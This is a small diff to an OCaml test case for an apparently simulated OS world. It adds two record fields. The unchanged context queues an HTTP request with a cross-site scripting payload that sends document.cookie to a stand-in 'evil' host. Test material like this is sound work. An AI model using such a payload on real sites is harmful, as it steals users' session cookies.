@@ -90,4 +90,6 @@ let case =
         Shift_os.World.queue_request w
           "GET /scry.php?album=<script>document.location='http://evil/'+document.cookie</script> HTTP/1.0");
     provenance = None;
+    images = [];
+    multiproc = None;
   }
